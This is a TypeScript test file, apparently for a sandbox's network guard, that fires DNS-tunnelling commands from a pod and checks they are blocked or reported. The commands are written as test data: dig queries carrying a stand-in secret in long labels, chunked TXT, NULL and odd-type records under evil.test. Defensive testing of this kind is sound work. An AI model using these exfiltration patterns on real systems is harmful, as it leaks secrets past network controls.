/** B09: data in the names that are asked for, and in what comes back. */
import { afterAll, beforeAll, describe, expect, test } from "vitest";

import { ALLOWED, createAttackScene, findObstacle } from "./support/attack-scene.ts";
import { type GuardedPod, toPolicy } from "./support/guarded-pod.ts";
import { fireAll, type Volley } from "./support/volley.ts";

/** 63 bytes, as long as a label may be: 5ec2e7 stands for a secret. */
const LABEL = "5ec2e7".repeat(11).slice(0, 63);
const LONGEST = [LABEL, LABEL, LABEL, LABEL.slice(0, 50), "evil.test"].join(".");
const CHUNKS = 40;
const ask = "dig +short +tries=1 +time=3";

const TUNNELS: Readonly<Record<string, string>> = {
  "long labels": `${ask} ${LABEL}.evil.test`,
  "the longest name": `${ask} ${LONGEST}`,
  "many chunks": `i=0; while [ $i -lt ${CHUNKS} ]; do echo chunk$i.5ec2e7.evil.test TXT; i=$((i+1)); done >"$0.batch"; ${ask} -f "$0.batch"`,
  "labels below an allowed name": `${ask} TXT 5ec2e7.${ALLOWED.name}`,
  "a reverse look-up": `${ask} PTR 5e.c2.e7.in-addr.arpa`,
  "a reverse look-up of letters": `${ask} PTR secret.5ec2e7.ip6.arpa`,
  "a local name": `${ask} 5ec2e7.localhost`,
  "NULL records": `${ask} NULL null.5ec2e7.evil.test`,
  "an unknown type": `${ask} TYPE65280 type.5ec2e7.evil.test`,
  "an allowed name": `${ask} ${ALLOWED.name}`,
} as const;

const obstacle = findObstacle();
describe.skipIf(obstacle !== "")(`tunnels through the allowed resolver${obstacle}`, () => {
  const stack = new AsyncDisposableStack();
  let guardedPod: GuardedPod;
  let volley: Volley;
  beforeAll(async () => {
    const { internet, pod } = stack.use(await createAttackScene());
    guardedPod = pod;
    // The attacker's own name server stands behind the resolver.
    await internet.dns.add(
      { name: LONGEST, type: "A", data: "203.0.113.66" },
      { name: "chunk0.5ec2e7.evil.test", type: "TXT", data: "a command" },
    );
    volley = await fireAll(pod, TUNNELS, { policy: toPolicy({ allow: [ALLOWED.name] }) });
  });
  afterAll(() => stack.disposeAsync());

  test.each([
    "long labels",
    "the longest name",
    "labels below an allowed name",
    "NULL records",
    "an unknown type",
  ])("%s get nowhere", (tunnel) => {
    const shot = volley.shot(tunnel);

    expect(shot.stdout).toBe("");
    expect(shot.dnsQueries).toMatchObject([{ verdict: "blocked", rule: "default", answers: [] }]);
  });

  test("each of many chunks is refused and counted", () => {
    const shot = volley.shot("many chunks");

    expect(shot.stdout).toBe("");
    expect(shot.dnsQueries).toHaveLength(CHUNKS);
    expect(new Set(shot.dnsQueries.map(({ verdict }) => verdict))).toEqual(new Set(["blocked"]));
    expect(volley.run.report.enforcement?.namesRefused).toBe(CHUNKS + 5);
  });

  test.each(["a reverse look-up", "a reverse look-up of letters", "a local name"])(
    "%s is answered by nobody outside, and is no violation",
    (tunnel) => {
      expect(volley.shot(tunnel).dnsQueries).toMatchObject([{ verdict: "allowed", answers: [] }]);
    },
  );

  test("nothing of it reaches the resolver", () => {
    const { run } = volley;

    expect(run.status).toBe(0);
    expect(run.escaped).toEqual([]);
    expect(run.questions.map(({ name }) => name)).toEqual([ALLOWED.name]);
    const sent = Buffer.concat(run.packets.map(({ bytes }) => bytes)).toString("latin1");
    expect(sent.toLowerCase()).not.toContain("5ec2e7");
  });

  test("with dns: any they are sent on, and reported with who asked", async () => {
    const policy = toPolicy({ dns: "any", allow: [ALLOWED.name] });
    const { run, ...second } = await fireAll(guardedPod, TUNNELS, { policy });

    const names = run.questions.map(({ name }) => name);
    expect(names).toContain(LONGEST);
    expect(second.shot("many chunks").stdout).toBe('"a command"\n');
    const { dnsQueries } = second.shot("many chunks");
    expect(dnsQueries).toHaveLength(CHUNKS);
    expect(dnsQueries).toContainEqual(
      expect.objectContaining({
        name: "chunk0.5ec2e7.evil.test",
        type: "TXT",
        verdict: "allowed",
        rule: "egress.dns: any",
      }),
    );
    // A name is answered, and nothing is opened by it.
    const way = await guardedPod.guarded(`curl -sS -m 3 http://${LONGEST}/`, { policy });
    expect(way.status).toBe(7);
    expect(way.escaped).toEqual([]);
  });
});
